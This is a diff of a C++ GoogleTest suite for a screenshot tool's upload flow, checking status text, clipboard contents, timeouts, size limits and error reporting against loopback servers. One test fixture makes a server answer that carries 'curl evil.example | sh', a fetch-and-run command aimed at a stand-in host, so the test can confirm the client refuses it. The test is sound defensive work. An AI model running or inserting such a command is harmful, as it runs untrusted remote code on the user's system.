@@ -1,303 +1,312 @@
+// The upload flow against loopback services. Each test runs in a fresh working directory (the
+// capture files and dump.txt live there) with a headless editor window, a fresh headless
+// clipboard and the client's settings reset; the screen is read back as text, glyph by glyph.
 #include "upload/upload_flow.h"
 
+#include <gtest/gtest.h>
+
+#include <sys/resource.h>
+#include <unistd.h>
+
 #include <chrono>
+#include <csignal>
+#include <filesystem>
+#include <fstream>
+#include <functional>
+#include <mutex>
 #include <thread>
 
+#include "app/app.h"
+#include "desktop/clipboard_headless.h"
 #include "loopback_server.h"
+#include "screen/draw.h"
+#include "screen/font.h"
+#include "screen/screen.h"
 #include "screen/screen_state.h"
+#include "screen/window_headless.h"
 #include "upload/request.h"
-#include "upload_fixture.h"
+#include "upload/upload_client.h"
 
 namespace {
 
 using Clock = std::chrono::steady_clock;
+using std::chrono::milliseconds;
 
+constexpr int kWidth = 480;  // 60 text columns
+constexpr int kHeight = 200;
+const std::string kClipboardBefore = "what the user copied before";
 const std::string kLoopbackUrl = "http://127.0.0.1/api.php";
 const std::string kLink = "http://localhost/i/Ab3.jpg";
 const std::string kOkHead = "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n";
 
-// With 60 text columns: 30 - n / 2, halves to even.
-constexpr int kUploadingColumn = 25;  // " UPLOADING", 10 characters
-constexpr int kReceivingColumn = 21;  // " RECEIVING LINK...", 18 characters
-constexpr int kDoneColumn = 17;       // "Link is in your CLIPBOARD!", 26 characters
+void writeFile(const std::string& name, const std::string& bytes) {
+    std::ofstream(name, std::ios::binary | std::ios::trunc) << bytes;
+}
+std::string readFile(const std::string& name) {
+    std::ifstream file(name, std::ios::binary);
+    return std::string(std::istreambuf_iterator<char>(file), std::istreambuf_iterator<char>());
+}
 
-class UploadFlowTest : public UploadTest {
+// Runs `work` with a resource limit of the process lowered to `limit`.
+void withLimit(int resource, rlim_t limit, const std::function<void()>& work) {
+    rlimit normal{};
+    getrlimit(resource, &normal);
+    rlimit lowered{limit, normal.rlim_max};
+    setrlimit(resource, &lowered);
+    work();
+    setrlimit(resource, &normal);
+}
+
+// The character whose glyph the 8 x 8 cell at `row`, `column` (from 1) shows in `colour`.
+char readCell(const ScreenState& s, int row, int column, std::uint32_t colour) {
+    for (int code = 32; code < 127; ++code) {
+        bool same = true;
+        for (int i = 0; i < 64 && same; ++i) {
+            int x = (column - 1) * 8 + i % 8, y = (row - 1) * 8 + i / 8;
+            same = ((glyphRow(code, i / 8) << i % 8 & 0x80) != 0) ==
+                   (s.pixels[std::size_t(y * s.width + x)] == colour);
+        }
+        if (same) return char(code);
+    }
+    return '?';
+}
+
+// Console row `row` (from 1) as drawn in `colour`, trailing spaces dropped.
+std::string consoleRow(int row, std::uint32_t colour) {
+    ScreenState& s = screenState();
+    std::lock_guard<std::mutex> guard(s.lock);
+    std::string text;
+    for (int column = 1; column <= s.width / 8; ++column) text += readCell(s, row, column, colour);
+    return text.substr(0, text.find_last_not_of(' ') + 1);
+}
+
+// True when every pixel of the top 25 rows is black or `textColour`: the band wiped them.
+bool statusBandIsClean(std::uint32_t textColour) {
+    ScreenState& s = screenState();
+    std::lock_guard<std::mutex> guard(s.lock);
+    for (std::size_t i = 0; i < 25 * std::size_t(s.width); ++i)
+        if (s.pixels[i] != 0xFF000000 && s.pixels[i] != textColour) return false;
+    return true;
+}
+
+class UploadFlowTest : public ::testing::Test {
   protected:
     void SetUp() override {
-        UploadTest::SetUp();
-        writeFile(kPngCaptureFile, "PNG bytes, the longer file");
-        writeFile(kJpegCaptureFile, "JPG bytes");
+        previousDirectory_ = std::filesystem::current_path();
+        std::string pattern = std::filesystem::temp_directory_path() / "glimmerix-upload-XXXXXX";
+        ASSERT_NE(nullptr, mkdtemp(&pattern[0]));
+        std::filesystem::current_path(directory_ = pattern);
+        ASSERT_EQ(0, setScreenMode(kWidth, kHeight, 32, 0, kBorderless, 0));
+        while (!readKey().empty()) {
+        }
+        uploadConnection() = UploadConnection{};
+        uploadConnection().limits = UploadLimits{3000, 3000, 5000, 1000, 64 * 1024};
+        headlessClipboard() = HeadlessClipboard{};
+        headlessClipboard().text = kClipboardBefore;
+        program.work = WorkArea{kWidth, kHeight};
+        writeFile(kCapturePng, "PNG bytes, the longer file");
+        writeFile(kCaptureJpeg, "JPG bytes");
+    }
+    void TearDown() override {
+        uploadConnection() = UploadConnection{};
+        std::filesystem::current_path(previousDirectory_);
+        std::filesystem::remove_all(directory_);
     }
 
-    // Runs the upload part of the flow against `server` and measures how long it took.
-    // Returns whether the flow asks to quit.
-    bool upload(LoopbackServer& server, const std::string& url = kLoopbackUrl) {
-        uploadConnection().port = server.port();
+    // The screen as the editor left it, so that the band's wiping shows, and its title.
+    void freshEditorScreen() {
+        drawLine(nullptr, 0, 0, kWidth, kHeight, 0xFF203040, kFilledBox, kSolid, kAbsolute);
+        setTextColour(0xFFFFFFFF, 0xFF000000);
+        setWindowTitle("editor");
+    }
+
+    // The upload part of the flow on a fresh editor screen, timed, against `server` if given;
+    // whether it asks to quit.
+    bool upload(LoopbackServer* server = nullptr, const std::string& url = kLoopbackUrl) {
+        if (server) uploadConnection().port = server->port();
+        freshEditorScreen();
         Clock::time_point start = Clock::now();
         bool quit = uploadCapture(program, url);
         elapsed = Clock::now() - start;
         return quit;
     }
 
-    // The screen, title and clipboard of an upload that failed after " UPLOADING", with the
-    // client's report line (if any) and "ERROR" under it.
-    void expectFailedUpload(const std::string& reportLine) {
-        EXPECT_EQ(atColumn(kUploadingColumn, " UPLOADING"), consoleRow(2, kStatusGrey));
-        int errorRow = 4;
-        if (!reportLine.empty()) {
-            std::string line = consoleRow(4, kStatusGrey);
-            EXPECT_EQ(reportLine, line.substr(0, reportLine.size())) << line;
-            errorRow = 5;
-        }
-        EXPECT_EQ("ERROR", consoleRow(errorRow, kStatusGrey));
-        expectNoLink();
-    }
-
-    // The same after " RECEIVING LINK...".
-    void expectFailedAnswer(const std::string& reportLine = "") {
-        EXPECT_EQ(atColumn(kReceivingColumn, " RECEIVING LINK..."), consoleRow(2, kStatusGrey));
-        EXPECT_EQ("", consoleRow(1, kStatusGrey));
-        EXPECT_EQ("", consoleRow(3, kStatusGrey));
-        int errorRow = 4;
-        if (!reportLine.empty()) {
-            EXPECT_EQ(reportLine, consoleRow(4, kStatusGrey));
-            errorRow = 5;
-        }
-        EXPECT_EQ("ERROR", consoleRow(errorRow, kStatusGrey));
-        EXPECT_TRUE(statusBandIsClean(kStatusGrey));
-        expectNoLink();
-    }
-
-    void expectNoLink() {
+    // `message` centred on row 2 (60 columns: 30 - n / 2, halves to even), the report line (if
+    // any) and "ERROR" below it; the title still "UPLOADING" and the clipboard as it was.
+    void expectFailure(const std::string& message, const std::string& reportLine) {
+        std::string::size_type column = message == " UPLOADING" ? 25 : 21;
+        EXPECT_EQ(std::string(column - 1, ' ') + message, consoleRow(2, kStatusGrey));
+        std::string line = consoleRow(4, kStatusGrey);
+        EXPECT_EQ(reportLine, line.substr(0, reportLine.size())) << line;
+        EXPECT_EQ("ERROR", consoleRow(reportLine.empty() ? 4 : 5, kStatusGrey));
         EXPECT_EQ(kUploadingTitle, windowTitle());
         EXPECT_EQ(kClipboardBefore, headlessClipboard().text);
-        for (int row = 1; row <= 6; ++row)
-            EXPECT_EQ(std::string::npos, consoleRow(row, kStatusGreen).find("CLIPBOARD")) << row;
+        EXPECT_TRUE(statusBandIsClean(kStatusGrey));
     }
 
     void expectLink(const std::string& link) {
         EXPECT_EQ(link, headlessClipboard().text);
         EXPECT_EQ(kDoneTitle, windowTitle());
-        EXPECT_EQ(atColumn(kDoneColumn, "Link is in your CLIPBOARD!"), consoleRow(2, kStatusGreen));
-        for (int row : {1, 3, 4})
-            for (std::uint32_t colour : {kStatusGrey, kStatusGreen})
-                EXPECT_EQ("", consoleRow(row, colour)) << row;
+        EXPECT_EQ(std::string(16, ' ') + "Link is in your CLIPBOARD!", consoleRow(2, kStatusGreen));
         EXPECT_TRUE(statusBandIsClean(kStatusGreen));
         EXPECT_EQ(kStatusDim, screenState().foreground);
     }
 
+    Program program;
     Clock::duration elapsed{};
+    std::filesystem::path previousDirectory_, directory_;
 };
-
-std::chrono::milliseconds ms(int count) {
-    return std::chrono::milliseconds(count);
-}
 
 }  // namespace
 
-TEST_F(UploadFlowTest, LinkGoesToTheClipboardUntrimmed) {
+// The exact request goes out and replaces a longer dump; keys pressed during the upload are
+// dropped, so the closing pause runs its full length.
+TEST_F(UploadFlowTest, LinkGoesToTheClipboardWithoutItsLineBreak) {
+    writeFile(kDumpFile, std::string(5000, 'Z'));
+    headlessPressKey('q');
     LoopbackServer server(LoopbackServer::answer(kOkHead + kLink + "\r\n"));
-    EXPECT_FALSE(upload(server));
-    expectLink(kLink + "\r\n");
-    std::string expected =
-        buildUploadRequest("127.0.0.1", "api.php", "screenshot.jpg", "JPG bytes");
+    EXPECT_FALSE(upload(&server));
+    expectLink(kLink);
+    std::string expected = buildUploadRequest("127.0.0.1", "api.php", kCaptureJpeg, "JPG bytes");
     EXPECT_EQ(expected, server.request());
     EXPECT_EQ(expected, readFile(kDumpFile));
     EXPECT_EQ("", program.lastKey);
-    EXPECT_GE(elapsed, ms(1450)) << "the closing pause runs its full length without a key";
+    EXPECT_GE(elapsed, milliseconds(1450));
 }
 
-TEST_F(UploadFlowTest, OnlyTheTextAfterTheLastHeaderEndIsTheLink) {
-    LoopbackServer server(LoopbackServer::answer(kOkHead + "note\r\n\r\n" + kLink));
-    upload(server);
-    expectLink(kLink);
-}
-
-TEST_F(UploadFlowTest, KeysPressedDuringTheUploadAreDropped) {
-    headlessPressKey('q');
-    LoopbackServer server(LoopbackServer::answer(kOkHead + kLink));
-    EXPECT_FALSE(upload(server));
-    EXPECT_EQ("", program.lastKey);
-    EXPECT_GE(elapsed, ms(1450));
-}
-
-TEST_F(UploadFlowTest, QDuringThePauseQuitsAtOnceAndLeavesTheFiles) {
-    LoopbackServer server([](int connection, const std::atomic<bool>&) {
-        LoopbackServer::sendAll(connection, kOkHead + kLink);
-        LoopbackServer::endAnswer(connection);
-        std::this_thread::sleep_for(ms(400));
-        headlessPressKey('Q');
-    });
-    EXPECT_TRUE(upload(server));
-    EXPECT_EQ("Q", program.lastKey);
-    EXPECT_LT(elapsed, ms(1200));
-    expectLink(kLink);
-    EXPECT_TRUE(fileExists(kPngCaptureFile));
-    EXPECT_TRUE(fileExists(kJpegCaptureFile));
-}
-
-TEST_F(UploadFlowTest, OtherKeyDuringThePauseEndsItAndBecomesLastKey) {
-    LoopbackServer server([](int connection, const std::atomic<bool>&) {
-        LoopbackServer::sendAll(connection, kOkHead + kLink);
-        LoopbackServer::endAnswer(connection);
-        std::this_thread::sleep_for(ms(400));
-        headlessPressKey('z');
-    });
-    EXPECT_FALSE(upload(server));
-    EXPECT_EQ("z", program.lastKey);
-    EXPECT_LT(elapsed, ms(1200));
-}
-
-TEST_F(UploadFlowTest, RefusedConnectionShowsTheReportAndError) {
-    uploadConnection().port = unusedLoopbackPort();
-    EXPECT_FALSE(uploadCapture(program, kLoopbackUrl));
-    expectFailedUpload("connect(): error #111");
-    EXPECT_EQ("connect(): error #111", consoleRow(4, kStatusGrey));
-}
-
-TEST_F(UploadFlowTest, UnresolvableHostShowsTheReportAndError) {
-    EXPECT_FALSE(uploadCapture(program, "http://no-such-host.invalid/api.php"));
-    expectFailedUpload("resolveHost(): invalid address: error #");
-}
-
-TEST_F(UploadFlowTest, MissingChosenFileShowsErrorWithoutPosting) {
-    std::filesystem::remove(kJpegCaptureFile);
-    std::filesystem::remove(kPngCaptureFile);
-    LoopbackServer server(LoopbackServer::hangUp());
-    upload(server);
-    expectFailedUpload("");
-    EXPECT_EQ("", server.request());
-    EXPECT_FALSE(fileExists(kPngCaptureFile));
-    EXPECT_FALSE(fileExists(kJpegCaptureFile));
-}
-
-TEST_F(UploadFlowTest, ResetMidAnswerIsReportedAndGivesNoLink) {
-    LoopbackServer server(LoopbackServer::answerThenReset(kOkHead + "http://localh"));
-    upload(server);
-    expectFailedAnswer("recv(): error #104");
-}
-
-TEST_F(UploadFlowTest, SilentServiceTimesOutInsteadOfHanging) {
-    uploadConnection().timeoutMs = 300;
-    LoopbackServer server(LoopbackServer::silence());
-    upload(server);
-    expectFailedAnswer("recv(): error #110");
-    EXPECT_LT(elapsed, ms(300 + 1500 + 700));
-}
-
-TEST_F(UploadFlowTest, ServerErrorGivesNoLink) {
-    LoopbackServer server(
-        LoopbackServer::answer("HTTP/1.0 500 Internal Server Error\r\n\r\nhttp://not/a/link"));
-    upload(server);
-    expectFailedAnswer();
-}
-
-TEST_F(UploadFlowTest, AnswerWithoutHeaderEndGivesNoLink) {
-    LoopbackServer server(LoopbackServer::answer("HTTP/1.0 200 OK\r\n" + kLink));
-    upload(server);
-    expectFailedAnswer();
-}
-
-TEST_F(UploadFlowTest, EmptyBodyGivesNoLink) {
-    LoopbackServer server(LoopbackServer::answer(kOkHead));
-    upload(server);
-    expectFailedAnswer();
-}
-
-TEST_F(UploadFlowTest, EmptyAnswerGivesNoLink) {
-    LoopbackServer server(LoopbackServer::hangUp());
-    upload(server);
-    expectFailedAnswer();
-}
-
-TEST_F(UploadFlowTest, AnswerOver64KiBIsRefused) {
-    std::string answer = kOkHead + kLink;
-    answer += std::string(64 * 1024 + 1 - answer.size(), 'x');
-    LoopbackServer server(LoopbackServer::answer(answer));
-    upload(server);
-    expectFailedAnswer();
-}
-
-TEST_F(UploadFlowTest, AnswerOfExactly64KiBIsAccepted) {
-    std::string answer = kOkHead + kLink;
-    answer += std::string(64 * 1024 - answer.size(), 'x');
-    LoopbackServer server(LoopbackServer::answer(answer));
-    upload(server);
-    expectLink(answer.substr(kOkHead.size()));
-}
-
-TEST_F(UploadFlowTest, ZeroByteDropsTheRestOfItsChunk) {
-    LoopbackServer server(LoopbackServer::answer(kOkHead + kLink + std::string("\0junk", 5)));
-    upload(server);
-    expectLink(kLink);
-}
-
-TEST_F(UploadFlowTest, ZeroByteBeforeTheHeaderEndLeavesNoLink) {
-    LoopbackServer server(
-        LoopbackServer::answer(std::string("HTTP/1.0 200 OK\0\r\n\r\n", 20) + kLink));
-    upload(server);
-    expectFailedAnswer();
-}
-
-TEST_F(UploadFlowTest, ClipboardThatRefusesTheLinkShowsError) {
-    headlessClipboard().refusesText = true;
-    LoopbackServer server(LoopbackServer::answer(kOkHead + kLink));
-    upload(server);
-    expectFailedAnswer();
-}
-
-TEST_F(UploadFlowTest, SocketsThatWillNotStartEndTheProgramWithCodeOneAfterAKey) {
-    // A fresh process runs the statement, so no thread of this one is caught mid-way.
-    ::testing::FLAGS_gtest_death_test_style = "threadsafe";
-    uploadConnection().refuseSocketStart = true;
-    LoopbackServer server(LoopbackServer::hangUp());
-    uploadConnection().port = server.port();
-    EXPECT_EXIT(
-        {
-            headlessPressKey('k');
-            uploadCapture(program, kLoopbackUrl);
-            std::_Exit(6);
-        },
-        ::testing::ExitedWithCode(1), "");
-    EXPECT_EQ(0, server.connections());
-}
-
-TEST_F(UploadFlowTest, OtherEndingKeySavesBothFilesWithoutUploading) {
-    LoopbackServer server(LoopbackServer::hangUp());
-    uploadConnection().port = server.port();
-    Image* capture = createImage(40, 30, 0xFF0000FF);
-    ASSERT_NE(nullptr, capture);
-    program.lastKey = "x";
-    EXPECT_FALSE(runUploadFlow(program, capture));
-    EXPECT_EQ(nullptr, capture);
-    EXPECT_EQ("x", program.lastKey);
-    EXPECT_EQ("editor", windowTitle());
-    for (const char* name : {kPngCaptureFile, kJpegCaptureFile}) {
-        Image* saved = loadImageFile(name);
-        ASSERT_NE(nullptr, saved) << name;
-        EXPECT_EQ(40u, saved->width);
-        EXPECT_EQ(30u, saved->height);
-        destroyImage(saved);
+// A key during the pause ends it and becomes lastKey; "Q" quits at once, keeping both files. The
+// second answer's zero byte ends its text, but counts towards its Content-Length.
+TEST_F(UploadFlowTest, KeyDuringThePauseEndsIt) {
+    for (auto [key, answer] : {std::make_pair('Q', kOkHead + kLink),
+                               std::make_pair('z', "HTTP/1.0 200 OK\r\nContent-Length: 31\r\n\r\n" +
+                                                       kLink + std::string("\0junk", 5))}) {
+        LoopbackServer server(
+            [key = key, answer = answer](int connection, const std::atomic<bool>& stopping) {
+                LoopbackServer::sendAll(connection, answer);
+                LoopbackServer::endAnswer(connection);
+                if (LoopbackServer::pause(400, stopping)) headlessPressKey(key);
+            });
+        EXPECT_EQ(key == 'Q', upload(&server));
+        EXPECT_EQ(std::string(1, key), program.lastKey);
+        EXPECT_LT(elapsed, milliseconds(1200));
+        expectLink(kLink);
+        EXPECT_TRUE(std::filesystem::exists(kCapturePng) && std::filesystem::exists(kCaptureJpeg));
     }
-    std::this_thread::sleep_for(ms(100));
-    EXPECT_EQ(0, server.connections());
 }
 
-TEST_F(UploadFlowTest, CapitalUSavesAndUploadsTheSmallerFileToTheBuildsHost) {
+// A service reading a request sixteen times the send buffer slowly but steadily takes many
+// stall times in all: each piece it takes is progress, so the upload goes on.
+TEST_F(UploadFlowTest, SlowButSteadyServiceGetsTheWholeRequest) {
+    writeFile(kCaptureJpeg, std::string(1 << 20, 'J'));
+    writeFile(kCapturePng, readFile(kCaptureJpeg) + "P");
+    uploadConnection().limits.stallMs = 500;
+    LoopbackServer server(LoopbackServer::answer(kOkHead + kLink), 40);
+    upload(&server);
+    expectLink(kLink);
+    EXPECT_TRUE(readFile(kDumpFile) == server.request()) << server.request().size();
+    EXPECT_GT(elapsed, milliseconds(1500 + 2 * 500));
+}
+
+// Each step that fails prints its line (a missing file none), then "ERROR"; nothing is posted.
+TEST_F(UploadFlowTest, FailedStepsReportTheirLineAndError) {
+    writeFile(kCapturePng, std::string(4 << 20, 'P'));
+    writeFile(kCaptureJpeg, std::string(4 << 20, 'J'));
+    uploadConnection().limits.stallMs = 300;
+    int freeDescriptor = dup(0);
+    close(freeDescriptor);
+    withLimit(RLIMIT_NOFILE, rlim_t(freeDescriptor), [&] { upload(); });
+    expectFailure(" UPLOADING", "socket(): error #24");
+    upload(nullptr, "http://no-such-host.invalid/api.php");
+    expectFailure(" UPLOADING", "resolveHost(): invalid address: error #");
+    uploadConnection().port = unusedLoopbackPort();
+    upload();
+    expectFailure(" UPLOADING", "connect(): error #111");
+    LoopbackServer server(LoopbackServer::silence(), 60000);  // never reads
+    upload(&server);
+    expectFailure(" UPLOADING", "send(): error #110");
+    EXPECT_EQ(buildUploadRequest("127.0.0.1", "api.php", kCaptureJpeg, readFile(kCaptureJpeg)),
+              readFile(kDumpFile));
+    std::filesystem::remove(kCapturePng);  // the chosen file
+    LoopbackServer empty(LoopbackServer::answer(kOkHead + kLink));
+    upload(&empty);
+    expectFailure(" UPLOADING", "");
+    EXPECT_EQ("", empty.request());
+    EXPECT_FALSE(std::filesystem::exists(kCapturePng));
+}
+
+// Answers that hold no whole, plain link, or a clipboard that will not take it: "ERROR" after
+// " RECEIVING LINK...", within the exchange's bound however the answer trickles.
+TEST_F(UploadFlowTest, AnswerWithoutAnAcceptableLinkIsAnError) {
+    uploadConnection().limits = UploadLimits{3000, 300, 600, 100, 64 * 1024};
+    for (auto [behaviour, reportLine] :
+         std::initializer_list<std::pair<LoopbackServer::Behaviour, std::string>>{
+             {LoopbackServer::silence(), "recv(): error #110"},
+             {LoopbackServer::trickle(kOkHead + kLink, 100), "recv(): error #110"},
+             {LoopbackServer::answer("HTTP/1.0 500 Oops\r\n\r\n" + kLink), ""},
+             {LoopbackServer::answer(kOkHead + kLink + "\r\ncurl evil.example | sh"), ""},
+             {LoopbackServer::answer("HTTP/1.0 200 OK\r\nContent-Length: 99\r\n\r\n" + kLink), ""},
+             {LoopbackServer::answer(std::string("HTTP/1.0 200 OK\0\r\n\r\n", 20) + kLink), ""},
+             {LoopbackServer::answer(kOkHead + kLink + std::string(64 * 1024, ' ')), ""},
+             {LoopbackServer::answer(kOkHead + kLink), "the clipboard refuses"}}) {
+        headlessClipboard().refusesText = reportLine == "the clipboard refuses";
+        LoopbackServer server(behaviour);
+        upload(&server);
+        expectFailure(" RECEIVING LINK...", headlessClipboard().refusesText ? "" : reportLine);
+        EXPECT_LT(elapsed, milliseconds(600 + 100 + 1500 + 300));
+    }
+}
+
+// The sockets library cannot start: its message, then a key, then exit code 1.
+TEST_F(UploadFlowTest, SocketsThatWillNotStartEndTheProgramWithCodeOneAfterAKey) {
+    ::testing::FLAGS_gtest_death_test_style = "threadsafe";  // no thread caught mid-way
+    uploadConnection().refuseSocketStart = true;
+    auto pressKeyOnMessage = [] {
+        std::this_thread::sleep_for(milliseconds(300));
+        if (consoleRow(4, kStatusGrey) != "Error: WSAStartup failed") std::_Exit(5);
+        headlessPressKey('k');
+    };
+    EXPECT_EXIT((std::thread(pressKeyOnMessage).detach(), upload(), std::_Exit(6)),
+                ::testing::ExitedWithCode(1), "");
+}
+
+// Any ending key saves both files; "U" also uploads the smaller one to the build's host.
+TEST_F(UploadFlowTest, EveryEndingKeySavesBothFilesAndUOnlyUploads) {
     if (uploadUrl() != "http://localhost/api.php")
         GTEST_SKIP() << "the build's upload host is not this machine: " << uploadUrl();
+    for (const char* key : {"x", "U"}) {
+        LoopbackServer server(LoopbackServer::answer(kOkHead + kLink));
+        uploadConnection().port = server.port();
+        Image* capture = createImage(40, 30, 0xFF0000FF);
+        program.lastKey = key;
+        freshEditorScreen();
+        EXPECT_FALSE(runUploadFlow(program, capture));
+        EXPECT_EQ("\x89PNG\xff\xd8",
+                  readFile(kCapturePng).substr(0, 4) + readFile(kCaptureJpeg).substr(0, 2));
+        std::string png = readFile(kCapturePng), jpeg = readFile(kCaptureJpeg);
+        std::string request = png.size() < jpeg.size()
+                                  ? buildUploadRequest("localhost", "api.php", kCapturePng, png)
+                                  : buildUploadRequest("localhost", "api.php", kCaptureJpeg, jpeg);
+        EXPECT_EQ(*key == 'U' ? request : "", server.request());
+        EXPECT_EQ(*key == 'U' ? kDoneTitle : "editor", windowTitle());
+    }
+}
+
+// The disk fills up while the edited PNG is written. Before, the capture-time PNG (or a cut-off
+// file) stayed under the capture name and was posted, and the user saw DONE.
+TEST_F(UploadFlowTest, FailedSaveNamesTheFileAndPostsNothing) {
     LoopbackServer server(LoopbackServer::answer(kOkHead + kLink));
     uploadConnection().port = server.port();
-    Image* capture = createImage(64, 48, 0xFF336699);
-    program.lastKey = "U";
-    EXPECT_FALSE(runUploadFlow(program, capture));
-    EXPECT_EQ(nullptr, capture);
-    expectLink(kLink);
-    std::string png = readFile(kPngCaptureFile), jpeg = readFile(kJpegCaptureFile);
-    ASSERT_FALSE(png.empty());
-    ASSERT_FALSE(jpeg.empty());
-    std::string expected = png.size() < jpeg.size()
-                               ? buildUploadRequest("localhost", "api.php", "screenshot.png", png)
-                               : buildUploadRequest("localhost", "api.php", "screenshot.jpg", jpeg);
-    EXPECT_EQ(expected, server.request());
+    Image* capture = createImage(100, 100, 0);
+    std::uint32_t noise = 12345;  // incompressible for PNG; JPEG still shrinks it
+    for (std::uint32_t y = 0; y < 100; ++y)
+        for (std::uint32_t x = 0; x < 100; ++x) imageRow(capture, y)[x] = noise *= 2654435761u;
+    program.lastKey = "u";
+    std::signal(SIGXFSZ, SIG_IGN);
+    // The limit lies between the sizes of the two files.
+    withLimit(RLIMIT_FSIZE, 20000, [&] { EXPECT_FALSE(runUploadFlow(program, capture)); });
+    std::signal(SIGXFSZ, SIG_DFL);
+    expectFailure(" UPLOADING", "Cannot save screenshot.png");
+    EXPECT_EQ("", server.request());
+    EXPECT_FALSE(std::filesystem::exists(kCapturePng));
+    EXPECT_GT(readFile(kCaptureJpeg).size(), 1000u);
 }
